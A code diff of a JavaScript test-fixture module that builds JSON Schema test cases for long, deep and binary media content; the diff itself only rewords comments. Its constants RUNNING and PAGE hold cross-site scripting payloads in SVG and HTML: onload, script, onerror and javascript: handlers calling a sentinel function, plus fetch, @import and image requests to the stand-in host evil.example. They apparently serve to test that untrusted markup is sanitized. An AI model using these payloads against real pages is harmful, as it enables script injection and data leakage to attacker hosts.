@@ -1,5 +1,4 @@
-// The cases that no file could hold: long ones, deep ones, and those with bytes in them.
-// Owns their schemas and values, as JSON text.
+// Generated cases, as JSON text: long ones, deep ones, and those with binary content.
 import { compass, hills, ofText, paper, tone } from "./media.mjs";
 import { readings, schema } from "./table.mjs";
 
@@ -9,7 +8,7 @@ const media = (title, contentMediaType, more = {}) => ({ title, type: "string", 
 
 const texts = ({ schema, value }) => ({ schema: schema && JSON.stringify(schema), value: JSON.stringify(value) });
 
-/** What would run if it were let: each way calls `pwned`, or somebody at evil.example. */
+/** Attempts to run code: each would call `pwned`, or send a request to evil.example. */
 const RUNNING = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" width="160" height="160" onload="parent.pwned('svg onload')"><script>parent.pwned('svg script');fetch('https://evil.example/svg')</script><style>@import url(https://evil.example/style.css);circle{fill:url(https://evil.example/fill)}</style><image href="https://evil.example/image.png" width="10" height="10"/><foreignObject width="100" height="20"><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/x" onerror="parent.pwned('svg foreign')"/></body></foreignObject><a xlink:href="javascript:parent.pwned('svg a')"><circle cx="50" cy="50" r="40" fill="crimson"/></a></svg>`;
 const PAGE = `<!doctype html><script>opener.pwned('html')</script><img src=https://evil.example/html.png onerror="parent.pwned('html img')">`;
 
